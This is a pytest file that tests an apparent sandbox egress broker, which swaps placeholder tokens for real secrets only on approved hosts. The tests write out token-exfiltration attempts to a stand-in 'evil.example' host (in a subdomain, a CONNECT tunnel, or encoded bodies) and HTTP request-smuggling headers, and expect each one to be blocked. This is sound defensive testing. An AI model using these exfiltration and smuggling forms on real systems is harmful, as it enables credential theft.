"""Secrets that a contained server never holds: real programs with placeholders, and a made-up host that wants the value."""

from __future__ import annotations

import json
import shutil
import sys
from base64 import b64decode, b64encode

import pytest

from douane.errors import ConfigError
from douane.model.profile import HostSecret, Place
from douane.sandbox.egress.attempt import Owner, Running, Swapped, entry
from douane.sandbox.egress.broker import Broker
from douane.sandbox.egress.placeholders.keeping import Placeholders
from douane.sandbox.egress.rules import read
from tests._promises import promise
from tests.e2e import installed
from tests.e2e.sandbox.api_host import serving
from tests.e2e.sandbox.egress_world import Sandbox, Server, World, need_namespaces

VALUE = "ghp_" + "Zx9" * 12
KEY = "other-key-of-a-service-0123456789"
RULES = (
    *("api.example.com", "other.example.com", "opaque.example.com", "strange.example.com"),
    *("http://plain.example.com", "tcp://db.example.com:5432"),
)

CHUNKED = "POST / HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n\r\n"


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    made = World(tmp_path_factory.mktemp("world"))
    made.seen = []
    made.servers["api"] = Server(serving(made.context, made.seen))
    made.put("api.example.com", "93.184.216.1", api=443)
    made.put("other.example.com", "93.184.216.3", api=443)
    made.put("opaque.example.com", "93.184.216.6", tls=443)
    made.put("strange.example.com", "93.184.216.7", api=443)
    made.put("plain.example.com", "93.184.216.4", http=80)
    made.put("db.example.com", "93.184.216.5", database=5432)
    yield made
    made.close()


@pytest.fixture(scope="module")
def values():
    return {"secret://github": VALUE, "secret://service": KEY}


@pytest.fixture(scope="module")
def placeholders(world, values):
    def reveal(reference):
        if reference not in values:
            raise ConfigError(f"there is no `{reference}`", "set it")
        return values[reference]

    ca = str(world.folder / "ca.pem")
    made = Placeholders(
        (
            HostSecret("TOKEN", "secret://github", ("api.example.com",), ca=ca),
            HostSecret("KEY", "secret://service", ("other.example.com",), ("x-key",), tuple(Place), ca),
            HostSecret("STRICT", "secret://service", ("strange.example.com",)),
        ),
        reveal,
    )
    (world.folder / "roots.pem").write_bytes(made.files["/etc/douane/roots.pem"])
    return made


@pytest.fixture(scope="module")
def sandbox(world, placeholders):
    need_namespaces()
    broker = Broker()
    made = Sandbox(world, read(RULES), broker, placeholders=placeholders)
    yield made
    made.close()
    broker.close()


@pytest.fixture
def runs(sandbox, placeholders, world):
    """`runs(command…)` is what a program says that has what a server in the sandbox has."""
    roots = str(world.folder / "roots.pem")
    given = {name: value for name, value in placeholders.variables.items() if not value.startswith("/")}
    trust = dict.fromkeys(set(placeholders.variables) - set(given), roots)
    world.seen.clear()
    sandbox.notes.clear()
    return lambda *command: sandbox.tries("program", given | trust, *command)


@pytest.fixture
def curl(runs):
    if shutil.which("curl") is None:
        pytest.skip("curl IS NOT INSTALLED")
    return lambda *arguments: runs("curl", "-sS", *arguments)


REQUESTS = """
import os, requests
session = requests.Session()
session.headers["Authorization"] = "Bearer " + os.environ["TOKEN"]
for number in range(2):
    print(session.get(f"https://api.example.com/{number}").json()["headers"]["Authorization"])
"""
HTTPX = """
import os, httpx
with httpx.Client(headers={"Authorization": "Bearer " + os.environ["TOKEN"]}) as client:
    for number in range(2):
        print(client.get(f"https://api.example.com/{number}").json()["headers"]["Authorization"])
"""
URLLIB = """
import os, urllib.request as u
asked = u.Request("https://api.example.com/0", headers={"Authorization": "Bearer " + os.environ["TOKEN"]})
print(u.urlopen(asked).headers["X-Was"])
"""
FETCH = """
const headers = {Authorization: "Bearer " + process.env.TOKEN}
fetch("https://api.example.com/0", {headers}).then((r) => r.json()).then((r) => console.log(r.headers.Authorization))
"""


@promise("P-PLACEHOLDER-NEVER-HELD")
@pytest.mark.parametrize(
    ("command", "times"),
    [
        ((sys.executable, "-c", REQUESTS), 2),
        ((str(installed.INSTALLED / "servers" / "bin" / "python"), "-Ic", HTTPX), 2),
        ((sys.executable, "-Ic", URLLIB), 1),
        (("node", "-e", FETCH), 1),
    ],
    ids=["requests", "httpx", "urllib", "node"],
)
def test_programs_send_the_value_and_never_see_it(runs, world, sandbox, placeholders, command, times):
    if shutil.which(command[0]) is None:
        pytest.skip(f"{command[0]} IS NOT INSTALLED")
    placeholder = placeholders.variables["TOKEN"]
    sandbox.running = Running(frozenset({"list_issues"}), "session-1", "local:alice")
    said = runs(*command)
    assert said.split("\n")[:-1] == [f"Bearer {placeholder}"] * times
    assert [headers["Authorization"] for _, _, headers, _ in world.seen] == [f"Bearer {VALUE}"] * times
    swaps = [one for one in sandbox.notes if isinstance(one, Swapped)]
    assert [one.secrets for one in swaps] == [("secret://github",)] * times
    body = entry(swaps[0], Owner("id", "server")).body
    assert (body["method"], body["subject"], body["secrets"], body["tools"]) == (
        "egress/secret",
        "api.example.com:443",
        ["secret://github"],
        ["list_issues"],
    )
    assert VALUE not in str(sandbox.notes)


@promise("P-PLACEHOLDER-NEVER-HELD")
@pytest.mark.parametrize("path", ["echo", "chunks", "until-close"])
def test_an_answer_that_repeats_the_value_has_the_placeholder_again(curl, world, placeholders, path):
    placeholder = placeholders.variables["TOKEN"]
    said = curl("-i", "-H", f"Authorization: Bearer {placeholder}", f"https://api.example.com/{path}")
    assert VALUE in world.seen[0][2]["Authorization"]
    assert VALUE not in said
    assert said.count(f"Bearer {placeholder}") == (2 if path == "echo" else 1)


@promise("P-PLACEHOLDER-NEVER-HELD")
def test_a_password_in_base64_is_swapped_and_turned_back(curl, world, placeholders):
    placeholder = placeholders.variables["TOKEN"]
    said = curl("-x", "http://127.0.0.1:3128", "-u", f"alice:{placeholder}", "https://api.example.com/")
    assert world.seen[0][2]["Authorization"] == "Basic " + b64encode(f"alice:{VALUE}".encode()).decode()
    said = b64decode(json.loads(said)["headers"]["Authorization"].removeprefix("Basic ")).decode("latin-1")
    assert said.startswith(
        f"alice:{placeholder[:-1]}"
    )  # digits at the ends have bits of what stands beside them


@promise("P-PLACEHOLDER-NEVER-HELD")
def test_a_secret_stands_in_a_url_and_a_body_where_its_profile_says_so(curl, world, placeholders):
    placeholder = placeholders.variables["KEY"]
    url = f"https://other.example.com/{placeholder}?key={placeholder}"
    chunked = (
        "-H",
        "Transfer-Encoding: chunked",
        "-H",
        "Expect: 100-continue",
        "-H",
        f"X-Key: {placeholder}",
    )
    for how in ((), chunked):
        world.seen.clear()
        said = curl(*how, "-d", f"key={placeholder}", url)
        [(_, path, headers, body)] = world.seen
        assert (path, body) == (f"/{KEY}?key={KEY}", f"key={KEY}".encode())
        assert headers["Content-Length"] == str(len(body))
        assert said == f"key={placeholder}"


def test_a_secret_that_was_revoked_goes_out_no_more_and_a_rotated_one_as_it_is_now(
    curl, world, placeholders, values, sandbox
):
    placeholder = placeholders.variables["TOKEN"]
    asked = ("-H", f"Authorization: Bearer {placeholder}", "https://api.example.com/")
    values["secret://github"] = "ghp_" + "Rotated8" * 5
    assert f"Bearer {placeholder}" in curl(*asked)
    assert world.seen.pop()[2]["Authorization"] == "Bearer ghp_" + "Rotated8" * 5
    del values["secret://github"]
    assert "(egress.withheld)" in curl(*asked)
    values["secret://github"] = VALUE
    assert world.seen == []
    assert sandbox.refusal().why == "egress.withheld"


@promise("P-PLACEHOLDER-NEVER-HELD")
def test_a_swap_that_cannot_be_recorded_is_not_made(curl, world, placeholders, sandbox, monkeypatch):
    monkeypatch.setattr(sandbox, "unwritable", Swapped)
    asked = ("-H", f"Authorization: Bearer {placeholders.variables['TOKEN']}", "https://api.example.com/")
    assert "(egress.unrecorded)" in curl(*asked)
    assert world.seen == []


@promise("P-PLACEHOLDER-ELSEWHERE")
@pytest.mark.parametrize(
    ("asked", "why"),
    [
        (("-H", "X-Note: {TOKEN}", "https://api.example.com/"), "egress.place"),
        (("-A", "{TOKEN}", "https://api.example.com/"), "egress.place"),
        (("https://api.example.com/{TOKEN}",), "egress.place"),
        (("https://api.example.com/redirect?to=http://plain.example.com/{TOKEN}",), "egress.place"),
        (("-d", "note={TOKEN}", "https://api.example.com/"), "egress.place"),
        (("-H", "Authorization: Bearer {TOKEN}", "https://other.example.com/"), "egress.secret"),
        (("-u", "me:{TOKEN}", "https://other.example.com/"), "egress.secret"),
        (("-d", "{percent}", "https://other.example.com/"), "egress.secret"),
        (("-H", "X-Note: {base64}", "https://other.example.com/"), "egress.secret"),
        (("http://plain.example.com/{TOKEN}",), "egress.secret"),
        (("-d", "{base64}", "http://plain.example.com/"), "egress.secret"),
        (("-x", "127.0.0.1:3128", "http://plain.example.com/{hex}"), "egress.secret"),
        (("http://{TOKEN}.evil.example/",), "egress.secret"),
    ],
    ids=str,
)
def test_a_placeholder_goes_nowhere_else_and_whoever_sends_it_is_told_on(
    curl, world, sandbox, placeholders, asked, why
):
    token = placeholders.variables["TOKEN"]
    forms = {
        "TOKEN": token,
        "percent": "".join(f"%{ord(one):02x}" for one in token),
        "base64": b64encode(f"x{token}yz".encode()).decode(),
        "hex": token.encode().hex(),
    }
    curl("-m", "5", *(one.format(**forms) for one in asked))
    assert world.seen == []
    assert sandbox.refusal().why == why
    assert "`TOKEN`" in sandbox.refusal().because


@promise("P-PLACEHOLDER-ELSEWHERE")
@pytest.mark.parametrize(
    ("operation", "why"),
    [
        (("raw", "db.example.com", 5432, "insert", "{}"), "egress.secret"),
        (("tunnel", "{}.evil.example:443", ""), "egress.secret"),
        (("spoken", "api.example.com", f"{CHUNKED}10000\r\n{'x' * 0x10000}\r\n", "5\r\n{:.5}\r\n23\r\n{:.35}\r\n0\r\n\r\n"), "egress.place"),
    ],
    ids=["tcp", "connect", "pieces"],
)  # fmt: skip
def test_a_placeholder_goes_no_way_that_is_not_a_request(sandbox, world, placeholders, runs, operation, why):
    token = placeholders.variables["TOKEN"]
    parts = [token, token[5:]] if why == "egress.place" else [token]
    told = sandbox.tries(*(one.format(*parts) if isinstance(one, str) else one for one in operation))
    assert sandbox.refusal().why == why
    assert token.upper() not in told
    assert world.seen == []


@promise("P-PLACEHOLDER-ELSEWHERE")
def test_a_redirect_leads_no_value_to_another_host(curl, world, sandbox, placeholders):
    url = f"https://other.example.com/redirect?to=http://plain.example.com/{placeholders.variables['KEY']}"
    said = curl("-i", "-L", url)
    [(_, path, _, _)] = world.seen
    assert path.endswith(KEY)
    assert KEY not in said
    assert f"Location: http://plain.example.com/{placeholders.variables['KEY']}" in said
    assert sandbox.refusal().why == "egress.secret"


def test_a_body_in_which_could_be_a_placeholder_is_not_compressed(curl, world, sandbox):
    assert "its body is compressed" in curl(
        "-H", "Content-Encoding: gzip", "-d", "x", "https://other.example.com/"
    )
    assert world.seen == []


def test_an_answer_that_ends_as_a_value_begins_comes_whole(curl):
    said = f"ends as {KEY[:9]}"
    assert curl("-d", said, "https://api.example.com/") == said


def test_a_connection_ends_for_the_program_when_the_host_ends_it(sandbox, world, placeholders, runs):
    assert (
        sandbox.tries("left", "api.example.com", "GET /leave HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
        == "closed"
    )


@promise("P-PLACEHOLDER-ELSEWHERE")
@pytest.mark.parametrize(
    ("head", "why"),
    [
        ("GET / HTTP/1.1\r\nHost: evil.example\r\n", "egress.name"),
        ("GET https://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n", "egress.protocol"),
        ("GET / HTTP/1.1\r\nHost: api.example.com\r\nHost: evil.example\r\n", "egress.protocol"),
        ("GET / HTTP/1.0\r\nHost: api.example.com\r\n", "egress.protocol"),
        ("GET / HTTP/1.1\r\n", "egress.name"),
        (
            "POST / HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n",
            "egress.protocol",
        ),
        ("POST / HTTP/1.1\r\nHost: api.example.com\r\nTransfer_Encoding: chunked\r\n", "egress.protocol"),
        ("GET / HTTP/1.1\r\nHost: api.example.com\r\nX: a\nHost: evil.example\r\n", "egress.protocol"),
        ("PRI * HTTP/2.0\r\n", "egress.protocol"),
    ],
    ids=str,
)
def test_no_request_is_read_in_two_ways(sandbox, world, placeholders, runs, head, why):
    field = f"Authorization: Bearer {placeholders.variables['TOKEN']}\r\n"
    said = sandbox.tries("spoken", "api.example.com", head + field + "\r\n")
    assert f"({why})" in said
    assert world.seen == []


@promise("P-PLACEHOLDER-ELSEWHERE")
def test_requests_one_behind_the_other_are_judged_one_by_one(sandbox, world, placeholders, runs):
    field = f"Authorization: Bearer {placeholders.variables['TOKEN']}\r\n"
    first = f"POST /one HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 4\r\n{field}\r\nbody"
    second = f"GET /two HTTP/1.1\r\nHost: evil.example\r\n{field}\r\n"
    said = sandbox.tries("spoken", "api.example.com", first + second)
    assert [(path, body) for _, path, _, body in world.seen] == [("/one", b"body")]
    assert said.index("200 OK") < said.index("421 Misdirected Request")


@promise("P-PLACEHOLDER-NEVER-HELD")
@pytest.mark.parametrize(
    ("path", "said"),
    [
        ("split", "(egress.answer)"),
        ("gzip", "(egress.answer)"),
        ("twice", "one"),
    ],
)
def test_no_answer_is_read_in_two_ways_or_not_at_all(curl, sandbox, placeholders, path, said):
    placeholder = placeholders.variables["TOKEN"]
    url = f"https://api.example.com/{path}"
    heard = curl(
        "-H", f"Authorization: Bearer {placeholder}", url, "--next", "-sS", "https://api.example.com/echo"
    )
    assert heard.startswith(said) or said in heard
    assert VALUE not in heard
    assert not heard.startswith("onetwo")


def test_a_websocket_opens_after_the_swap(sandbox, world, placeholders, runs):
    head = "GET /socket HTTP/1.1\r\nHost: api.example.com\r\nConnection: keep-alive, Upgrade\r\nUpgrade: websocket\r\n"
    head += f"Sec-WebSocket-Key: a2V5\r\nAuthorization: Bearer {placeholders.variables['TOKEN']}\r\n\r\n"
    said = sandbox.tries("spoken", "api.example.com", head, "frame")
    assert said.startswith("HTTP/1.1 101 Switching Protocols\r\n")
    assert said.endswith("\r\n\r\nframe")
    assert world.seen[0][2]["Authorization"] == f"Bearer {VALUE}"


@promise("P-PLACEHOLDER-TLS")
def test_only_hosts_of_secrets_are_read_and_only_their_names_are_vouched_for(
    sandbox, world, placeholders, runs
):
    assert sandbox.tries("issuer", "api.example.com") == "Douane, for one sandbox"
    assert sandbox.tries("issuer", "opaque.example.com") == "site"


@promise("P-PLACEHOLDER-TLS")
def test_a_program_that_does_not_trust_the_gate_is_told_of_and_nothing_is_sent(runs, curl, sandbox, world):
    said = curl("--cacert", "/etc/ssl/certs/ca-certificates.crt", "https://api.example.com/")
    assert "certificate" in said
    assert sandbox.refusal().why == "egress.protocol"
    assert "did not agree to the gate's TLS" in sandbox.refusal().because
    assert world.seen == []


@promise("P-PLACEHOLDER-TLS")
def test_a_host_whose_certificate_does_not_hold_gets_nothing(world, sandbox, curl, placeholders):
    placeholder = placeholders.variables["STRICT"]
    said = curl("-H", f"Authorization: Bearer {placeholder}", "https://strange.example.com/")
    assert "(egress.unreachable)" in said
    assert "certificate does not hold" in said
    assert world.seen == []
